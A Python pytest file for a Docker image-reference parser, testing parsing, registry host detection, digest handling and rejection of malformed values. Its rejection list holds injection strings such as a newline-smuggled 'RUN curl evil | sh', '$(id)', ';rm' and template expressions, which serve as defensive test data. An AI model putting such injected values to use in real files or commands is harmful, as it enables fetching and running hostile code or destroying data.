import pytest

from wheelbase.errors import UsageError
from wheelbase.image_ref import ImageRef, registry_host, tagged

DIGEST = "sha256:" + "a" * 64


@pytest.mark.parametrize(
    ("text", "repository", "tag", "digest"),
    [
        ("localhost:5000/wheelbase/wheelhouse:py3.13-debian", "localhost:5000/wheelbase/wheelhouse", "py3.13-debian", None),
        (f"ghcr.io/acme/wheelhouse:py3.13-alpine@{DIGEST}", "ghcr.io/acme/wheelhouse", "py3.13-alpine", DIGEST),
        ("python:3.15-alpine", "python", "3.15-alpine", None),
        (f"python:3.15-alpine@{DIGEST}", "python", "3.15-alpine", DIGEST),
        (f"localhost:5000/w@{DIGEST}", "localhost:5000/w", None, DIGEST),
        ("localhost:5000/w", "localhost:5000/w", None, None),
        ("docker.io/library/python:3.14", "docker.io/library/python", "3.14", None),
    ],
)
def test_parses_like_docker(text: str, repository: str, tag: str | None, digest: str | None) -> None:
    ref = ImageRef.parse(text)
    assert (ref.repository, ref.tag, ref.digest) == (repository, tag, digest)
    assert str(ref) == text


@pytest.mark.parametrize(
    "text",
    ["Upper/Case:tag", "repo:tag@sha256:short", "repo:bad tag", "repo:", "a//b:c", "host:5000/:tag", "repo:tag@md5:" + "a" * 32,
     # values a registry label could carry: none may reach a file or a template
     "python:3.13\nRUN curl evil | sh", "python:3.13\n", " python:3.13", "python:{{ 7*7 }}", "python:3.13{% raw %}",
     "python:3.13;rm", "python:$(id)", "", "python:3.13\t", "python:3.13@sha256:" + "a" * 64 + "\n"],
)
def test_refuses_anything_that_is_not_exactly_a_reference(text: str) -> None:
    with pytest.raises(UsageError):
        ImageRef.parse(text)


def test_the_error_says_where_the_value_came_from() -> None:
    with pytest.raises(UsageError, match=r"\(label dev.wheelbase.python.image of x\)"):
        ImageRef.parse("a\nb", source="label dev.wheelbase.python.image of x")


def test_with_digest_keeps_the_tag() -> None:
    ref = ImageRef.parse("localhost:5000/w:py3.13-debian").with_digest(DIGEST)
    assert str(ref) == f"localhost:5000/w:py3.13-debian@{DIGEST}"
    assert ref.name == "localhost:5000/w:py3.13-debian"


@pytest.mark.parametrize(("repository", "host"), [
    ("python", "docker.io"), ("library/python", "docker.io"), ("ghcr.io/acme/w", "ghcr.io"),
    ("localhost:5000/w", "localhost:5000"), ("localhost/python", "localhost"), ("acme/unauthorized", "docker.io"),
])
def test_registry_host_follows_dockers_rule(repository: str, host: str) -> None:
    assert registry_host(repository) == host


def test_a_wheelhouse_is_named_with_a_tag_and_without_a_digest() -> None:
    assert tagged("localhost:5000/w:py3.13-debian").tag == "py3.13-debian"
    with pytest.raises(UsageError, match="has no tag"):
        tagged("localhost:5000/w")
    with pytest.raises(UsageError, match="not a digest"):
        tagged(f"localhost:5000/w:t@{DIGEST}")
